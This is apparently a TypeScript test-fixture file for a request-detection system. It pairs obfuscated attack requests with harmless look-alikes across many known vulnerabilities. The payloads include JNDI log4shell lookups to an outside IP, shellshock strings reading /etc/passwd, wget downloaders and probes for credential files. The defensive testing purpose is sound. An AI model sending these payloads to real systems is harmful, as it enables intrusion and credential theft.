import { type Proof, agent, get, post, proof, request } from './sketch.ts'

/**
 * Exploits in disguise, by hand: parts percent-encoded once or more often, in overlong UTF-8, in unicode or HTML escapes,
 * in look-ups inside of look-ups, with odd slashes; in paths, queries, headers, cookies and bodies. Beside each something in
 * the same disguise that is harmless.
 */
const json = { contentType: 'application/json' }
const form = { contentType: 'application/x-www-form-urlencoded' }

const lookUps: readonly Proof[] = [
  proof('log4shell', get('/?x=$%7Bjndi:ldap://198.51.100.7/a}'), get('/?x=$%7Bname}')),
  proof(
    'log4shell',
    post('/login', 'user=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', form),
    post('/login', 'user=%24%7B%24%7B%3A%3A-j%7Dack%7D', form),
  ),
  proof('log4shell', agent('${jnd${upper:i}:ldap://198.51.100.7/a}'), agent('${jn${upper:i}:x}')),
  proof(
    'log4shell',
    agent('${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://198.51.100.7/a}'),
    agent('${${lower:a}${upper:b}}'),
  ),
  proof(
    'log4shell',
    get('/', {
      headers: { 'X-Forwarded-For': '${${env:NO:-j}ndi${env:NO:-:}${env:NO:-l}dap://198.51.100.7/a}' },
    }),
    get('/', { headers: { 'X-Forwarded-For': '${env:HOME:-nowhere}' } }),
  ),
  proof(
    'log4shell',
    get('/', { cookies: 'id=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.7%257D' }),
    get('/', { cookies: 'id=%2524%257Bjson%257D' }),
  ),
  proof(
    'log4shell',
    post('/api', String.raw`{"name":"\u0024\u007b\u006andi:dns://198.51.100.7}"}`, json),
    post('/api', String.raw`{"name":"\u0024\u007bname}"}`, json),
  ),
  proof(
    'log4shell',
    get('/', { referer: 'http://a/?q=%24{jndi%3armi%3a//198.51.100.7}' }),
    get('/', { referer: 'http://a/?q=%24{x}' }),
  ),
  proof(
    'log4shell',
    post('/', '<a>&#36;&#123;jndi:ldap://198.51.100.7/a}</a>'),
    post('/', '<a>&#36;&#123;name}</a>'),
  ),
  proof(
    'log4shell',
    get("/%24%7B%24%7Bdate%3A'j'%7D%24%7Bdate%3A'n'%7Ddi:ldap://198.51.100.7/a}"),
    get("/%24%7Bdate%3A'y'%7D"),
  ),
  proof(
    'log4shell',
    get('/', { authorization: 'Bearer ${${::-${lower:${upper:j}}}ndi:ldap://198.51.100.7}' }),
    get('/', { authorization: 'Bearer ${lower:x}' }),
  ),
  proof(
    'log4shell-local-bypass',
    get('/?x=$%7Bjndi:ldap://127.0.0.1%23.198.51.100.7/a}'),
    get('/?x=$%7Bjndi:ldap://198.51.100.7/a}'),
  ),
]

const shells: readonly Proof[] = [
  proof('shellshock', agent('() { ignored; }; echo; /bin/cat /etc/passwd'), agent('f() { ignored; }; x')),
  proof('shellshock', agent('() { _; } >_[$($())] { id; }'), agent('Mozilla/5.0 () like {x}')),
  proof(
    'shellshock',
    get('/', { headers: { 'X-Y': '() { foo:;};/bin/id;' } }),
    get('/', { headers: { 'X-Y': '() => { foo }' } }),
  ),
  proof('shellshock', get('/', { cookies: 'a=() { x; }; id;' }), get('/', { cookies: 'a=() { x' })),
  proof('shellshock', agent('%28%29%20%7B%20x%3B%20%7D%3B%20id%3B'), agent('%28%29%20%7B%20x')),
  proof(
    'gpon-rce',
    post('/GponForm/diag%5fForm?images/', 'dest_host=%60busybox%20wget%20http%3a%2f%2f198.51.100.7%60', form),
    post('/GponForm/diag%5fForm?images/', 'dest_host=198.51.100.7', form),
  ),
  proof('gpon-auth-bypass', post('/GponForm/diag_Form?%69mages/', 'x'), post('/GponForm/diag_Form', 'x')),
  proof(
    'tp-link-archer-rce',
    [
      get('/cgi-bin/luci/%3bstok%3d/%6cocale?form=country&operation=write&country=%24%28id%29'),
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&c%6funtry=%2560id%2560'),
    ],
    get('/cgi-bin/luci/%3bstok%3d/%6cocale?form=country&operation=write&country=%44E'),
  ),
  proof(
    'shell-downloader',
    get('/x?c=cd%2520%252ftmp%253b%2577get%2520http://198.51.100.7/x.sh'),
    get('/x?c=cd%2520%252fhome'),
  ),
  proof('jaws-dvr-shell', get('/%73hell?cd%20%2ftmp%3brm'), get('/%73hell?cd%20/home')),
  proof(
    'pan-os-command-injection',
    get('/global-protect/login.esp', { cookies: 'SESSID=%2e%2e%2f%2e%2e%2fx' }),
    get('/global-protect/login.esp', { cookies: 'SESSID=%2ex' }),
  ),
  proof(
    'netgear-setup-rce',
    get('/setup%2ecgi?next_file=x&tod%6f=sysc%6dd&cmd=id'),
    get('/setup%2ecgi?tod%6f=save'),
  ),
  proof(
    'linear-emerge-rce',
    get('/card_scan.php?No=30&ReaderNo=%2560id%2560'),
    get('/card_scan.php?No=30&ReaderNo=%31'),
  ),
  proof(
    'dlink-nas-rce',
    get('/cgi-bin/nas%5fsharing.cgi?user=x&cmd=%31%35&s%79stem=aWQ='),
    get('/cgi-bin/nas%5fsharing.cgi?user=x&cmd=%31'),
  ),
]

const traversals: readonly Proof[] = [
  proof(
    'fortinet-vpn-traversal',
    get('/remote/fgt%5flang?lang=/%2e%2e/%2e%2e//////////%64ev/cmdb/sslvpn_websession'),
    get('/remote/fgt%5flang?lang=%65n'),
  ),
  proof(
    'path-traversal',
    get('/x?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
    get('/x?f=%252e%252fetc'),
  ),
  proof(
    'path-traversal',
    get('/x?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd'),
    get('/x?f=%c3%a9t%c3%a9'),
  ),
  proof(
    'path-traversal',
    get('/x?f=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd'),
    get('/x?f=%u0065tc'),
  ),
  proof('path-traversal', get('/x?f=%uff0e%uff0e%uff0f%uff0e%uff0e%uff0fetc/passwd'), get('/x?f=%uff0e')),
  proof(
    'path-traversal',
    post('/x', String.raw`{"f":"..\/..\/..\/etc\/passwd"}`, json),
    post('/x', String.raw`{"f":"a\/b"}`, json),
  ),
  proof(
    'path-traversal',
    post('/x', 'f=&#46;&#46;/&#46;&#46;/&#x2e;&#x2e;/etc/passwd'),
    post('/x', 'f=&#46;/passwd'),
  ),
  proof(
    'grafana-traversal',
    get('/public//plugins/alertlist/%2e%2e/%2e%2e/etc/passwd'),
    get('/public//plugins/alertlist/x.js'),
  ),
  proof(
    'pulse-secure-traversal',
    get('/dana-na/%2e%2e/dana/html5acc/guacamole/%2e%2e/etc/hosts?x'),
    get('/dana-na/%61uth'),
  ),
  proof('citrix-adc-traversal', get('/vpn/%2e%2e/./vpns/cfg/smb.conf'), get('/vpn/./index.html')),
  proof('f5-big-ip-tmui', get('/tmui/login.jsp/%2e%2e%3b/tmui/x.jsp'), get('/tmui/%6cogin.jsp')),
  proof('simplehelp-traversal', get('/toolbox-resource/%2e%2e/x'), get('/toolbox-resource/%78')),
  proof('apache-traversal', get('/cgi-b%69n/%2e%2e/%2e%2e/bin/sh'), get('/cgi-b%69n/test.cgi')),
  proof(
    'apache-traversal-double-encoded',
    get('/cgi-bin/%252e%252e/%252e%252e/bin/sh'),
    get('/cgi-bin/%2574est.cgi'),
  ),
  proof(
    'weblogic-console',
    get('/console/css/%25252e%25252e%25252fconsole.portal'),
    get('/console/css/%25252e.css'),
  ),
  proof(
    'weblogic-console-handle',
    post('/console/css/%252e%252e%252fconsole.portal', 'h%61ndle=com.bea.Shell', form),
    post('/console/css/%252e%252e%252fconsole.portal', 'h%61ndle=x', form),
  ),
  proof(
    'ivanti-connect-bypass',
    get('/api/v1/totp/user-backup-code/%2e%2e/%2e%2e/system'),
    get('/api/v1/totp/user-backup-code/%78'),
  ),
  proof(
    'ivanti-connect-rce',
    get('/api/v1/license//keys-status/%3bid'),
    get('/api/v1/license//keys-status/%78'),
  ),
  proof('teamcity-auth-bypass', get('/hax?j%73p=/app/rest/users%3b.jsp'), get('/hax?j%73p=/app/index.jsp')),
  proof('jira-file-read', get('/s/x/_/%253b/WEB-INF/web.xml'), get('/s/x/_/%2578/web.xml')),
  proof(
    'cisco-asa-traversal',
    get('/%2bCSCOU%2b/%2e%2e/%2bCSCOE%2b/files/file_list.json'),
    get('/%2bCSCOU%2b/style.css'),
  ),
  proof('pan-os-path-confusion', get('/unauth/%25252e%25252e/php/ztp_gate.php'), get('/unauth/%2578')),
]

const statements: readonly Proof[] = [
  proof(
    'sql-injection-attempt',
    get('/?id=1%2520union%2520select%25201'),
    get('/?id=the%2520union%2520of%2520selects'),
  ),
  proof('sql-injection-attempt', get('/?id=1+%75nion+%73elect+1'), get('/?id=%75nion+jack')),
  proof(
    'sql-injection-attempt',
    post('/', 'id=1%20union%20%53elect%201', form),
    post('/', 'id=union%20man', form),
  ),
  proof(
    'sql-injection-attempt',
    post('/', String.raw`{"id":"1 \u0075nion \u0073elect 1"}`, json),
    post('/', String.raw`{"id":"\u0075nion"}`, json),
  ),
  proof(
    'struts-rce',
    get('/', { contentType: '%25%7B(%23a=1)%7D' }),
    get('/', { contentType: 'text/%68tml' }),
  ),
  proof('struts-namespace-ognl', get('/%2524%257b(%2523a=1)%257d/x.action'), get('/%2524%257bname%257d/x')),
  proof('struts-parameter-ognl', get('/?id=%2525%257b(%2523a=1)%257d'), get('/?id=%2525%257bname%257d')),
  proof(
    'spring4shell',
    post('/', 'class%2emodule%2eclass%4coader.resources=1', form),
    post('/', 'class%2emodule=1', form),
  ),
  proof('confluence-ognl', get('/%2524%257b@java.lang.Runtime@getRuntime()%257d/'), get('/%2524name/')),
  proof(
    'thinkphp-rce',
    get('/?s=/index/%255cthink%255capp/%69nvokefunction&function=x'),
    get('/?s=/index/%255cthink'),
  ),
  proof(
    'drupalgeddon2',
    post('/user/register?element_parents=account/mail/%2523value', 'x'),
    post('/user/register?x=%2523value', 'x'),
  ),
  proof(
    'vbulletin-widget-php',
    post('/', 'routestring=%61jax%2Frender%2Fwidget%5fphp', form),
    post('/', 'routestring=%61jax', form),
  ),
  proof(
    'vmware-workspace-ssti',
    get('/catalog-portal/ui/oauth/verify?error=&device%55did=%2524%257b1%257d'),
    get('/catalog-portal/ui/oauth/verify?device%55did=%31'),
  ),
  proof(
    'php-cgi-options',
    post('/index.php?%2Dd%20allow_url_include%3d1', '<?php'),
    post('/index.php?%2Ddebug', 'x'),
  ),
  proof(
    'langflow-rce',
    post('/api/v1/validate/code', String.raw`{"code":"\u0065xec('id')"}`, json),
    post('/api/v1/validate/code', String.raw`{"code":"\u0031"}`, json),
  ),
  proof(
    'react2shell',
    post('/', '["$1:\\u0063onstructor:constructor"]', { headers: { 'Next-Action': 'x' } }),
    post('/', '["$1:\\u0063lass"]', { headers: { 'Next-Action': 'x' } }),
  ),
]

const places: readonly Proof[] = [
  proof('git-config-crawler', get('/%2egit/config'), get('/%2egitignore')),
  proof('git-config-crawler', get('//.git/./config'), get('//.github/./config.yml')),
  proof('git-config-crawler', get(String.raw`/app\.git\config`), get(String.raw`/app\git\config`)),
  proof('env-crawler', get('/%252eenv'), get('/%252environment')),
  proof('ssh-key-crawler', get('/.ssh/id%5frsa'), get('/.ssh/id%5fnone')),
  proof('aws-credentials-crawler', get('/.aws//cred%65ntials'), get('/aws//cred%65ntials')),
  proof(
    'phpunit-rce',
    post('/vendor/phpunit//src/Util/PHP/./eval-stdin%2ephp', '<?php'),
    get('/vendor/phpunit//README%2emd'),
  ),
  proof(
    'hikvision-rce',
    request('PUT', '/SDK/web%4canguage', '<language>$(id)</language>'),
    get('/SDK/web%4canguage'),
  ),
  proof('laravel-ignition', post('/%5fignition/execute-solution', '{}'), get('/%5fignition/health-check')),
  proof(
    'wordpress-upload-script',
    get('/wp-content/uploads/2026/./x%2ephp'),
    get('/wp-content/uploads/2026/./x%2ejpg'),
  ),
  proof('hadoop-yarn-probe', post('/ws/v1/cluster/apps/new%2dapplication'), get('/ws/v1/cluster/apps/%78')),
  proof('spring-actuator-crawler', get('/actuator//%65nv'), get('/actuator//%78')),
  proof(
    'open-redirect-oast',
    get('/?u=http%253a%252f%252fx%252eoast%252efun'),
    get('/?u=http%253a%252f%252fcoast%252eexample'),
  ),
  proof(
    'proxyshell',
    get('/autodiscover/autodiscover%2ejson%3f@foo.example/mapi/nspi'),
    get('/autodiscover/autodiscover%2ejson'),
  ),
]

/** The same of requests that facts tell of. */
const facts: readonly Proof[] = [
  proof('cve-2023-27350', get('/app?service=page/%53etup%43ompleted'), get('/app?service=page/%48ome')),
  proof(
    'cve-2024-1061',
    get('/?r%65st_route=/h5vp/v1/view/1&id=1%2527%2520union%2520select%25201'),
    get('/?r%65st_route=/h5vp/v1/view/1&id=%31'),
  ),
  proof(
    'cve-2025-57819',
    get('/admin/ajax.php?module=FreePBX%5cmodules%5cendpoint%5cajax&brand=x%2527'),
    get('/admin/ajax.php?module=FreePBX%5cmodules%5cendpoint%5cajax&brand=x'),
  ),
  proof('cve-2024-8963', get('/client/index%2ephp%3f.php/gsb/users.php'), get('/client/index%2ephp')),
  proof(
    'cve-2022-22947',
    post('/actuator/gateway/routes/x', String.raw`{"filters":[{"args":{"value":"\u0023{T(x)}"}}]}`, json),
    post('/actuator/gateway/routes/x', '{"uri":"http://a"}', json),
  ),
  proof(
    'cve-2022-24086',
    post(
      '/rest/default/V1/guest-carts/x/shipping-information',
      '{"firstname":"{{var this.getTemplate\\u0046ilter().filter(1)}}"}',
      json,
    ),
    post('/rest/default/V1/guest-carts/x/shipping-information', '{"firstname":"Ann"}', json),
  ),
  proof(
    'cve-2024-27956',
    post('/wp-content/plugins/wp-automatic/inc/csv%2ephp', 'q=INSERT+INTO+wp_users&auth=%00&integ=1', form),
    post('/wp-content/plugins/wp-automatic/inc/csv%2ephp', 'x=1', form),
  ),
  proof('cve-2024-52301', get('/?%2d%2denv=local'), get('/?environment=local')),
  proof(
    'cve-2025-52488',
    post(
      '/Providers/HtmlEditorProviders/DNNConnect.CKE/Browser/FileUploader.ashx',
      'filename="%EF%BC%BC%EF%BC%BChost%EF%BC%8Eexample/x.jpg"',
    ),
    post('/Providers/HtmlEditorProviders/DNNConnect.CKE/Browser/FileUploader.ashx', 'filename="x.jpg"'),
  ),
  proof(
    'cve-2025-47188',
    post('/cgi-bin/webconfig?page=upload%5fringtone', 'filename="x%24%28id%29.wav"'),
    post('/cgi-bin/webconfig?page=upload%5fringtone', 'filename="x.wav"'),
  ),
]

export const evasionProofs: readonly Proof[] = [
  ...lookUps,
  ...shells,
  ...traversals,
  ...statements,
  ...places,
  ...facts,
]
